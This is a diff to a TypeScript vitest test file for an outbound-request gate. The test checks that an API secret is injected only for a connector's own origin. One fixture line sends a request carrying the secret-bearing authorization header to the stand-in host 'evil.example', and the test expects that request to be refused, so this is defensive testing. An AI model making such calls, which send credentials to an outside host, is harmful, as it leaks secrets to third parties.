@@ -2,6 +2,7 @@ import { describe, expect, it } from "vitest";
 import { aConnector, aStore } from "../../../test/connector-builders.ts";
 import { Fault } from "../domain/refusal.ts";
 import type { Capability, CapabilityIo } from "../ports/capability.ts";
+import type { Outgoing } from "../ports/outbound.ts";
 import { createDoor } from "./door.ts";
 import type { DoorSession } from "./session.ts";
 
@@ -21,6 +22,7 @@ function aSession(changes: Partial<DoorSession> = {}): DoorSession {
     store: aStore(),
     connectors: new Map(),
     mocks: null,
+    authorized: "delete",
     agreed: null,
     recording: null,
     effects: new Map(),
@@ -30,13 +32,13 @@ function aSession(changes: Partial<DoorSession> = {}): DoorSession {
     holdMicroUsd: 1_000,
     extendHold: async () => {},
     checkWrite: async () => {},
-    saveLive: () => {},
+    saveLive: async () => {},
     ...changes,
   };
 }
 
 async function performWith(call: (io: CapabilityIo) => Promise<unknown>, session = aSession()) {
-  const sent: Request[] = [];
+  const sent: Outgoing[] = [];
   const capability: Capability = {
     via: "model",
     connectorOf: () => vendor,
@@ -63,21 +65,26 @@ async function performWith(call: (io: CapabilityIo) => Promise<unknown>, session
     background: () => {},
   });
   const outcome = await door
-    .perform(session, { key: "run_0_x:ask:1", step: "ask" }, { via: "model", request: {} })
+    .perform(
+      session,
+      { key: "run_0_x:ask:1", step: "ask", isOver: () => false },
+      { via: "model", request: {} },
+    )
     .catch((error: unknown) => error);
   return { outcome, sent, record: session.effects.get("run_0_x:ask:1"), session };
 }
 
 const headers = { authorization: "Bearer secret:LLM_KEY" };
+const aRequest = (url: string): Outgoing => ({ method: "GET", url: new URL(url), headers, body: null });
 
 describe("a capability with a connector of its own", () => {
   it("gets its secret put in, for its own origin only", async () => {
     const home = await performWith(async (io) =>
-      (await io.fetch(new Request("https://llm.example/v1/chat", { headers }))).text(),
+      new TextDecoder().decode((await io.fetch(aRequest("https://llm.example/v1/chat"))).bytes),
     );
     expect(home.outcome).toMatchObject({ value: "ok", origin: "live" });
-    expect(home.sent[0]?.headers.get("authorization")).toBe("Bearer sk-very-secret");
-    const away = await performWith((io) => io.fetch(new Request("https://evil.example/", { headers })));
+    expect(home.sent[0]?.headers["authorization"]).toBe("Bearer sk-very-secret");
+    const away = await performWith((io) => io.fetch(aRequest("https://evil.example/")));
     expect(away.outcome).toMatchObject({ refusal: { reason: "address_forbidden", host: "evil.example" } });
     expect(away.sent).toEqual([]);
   });
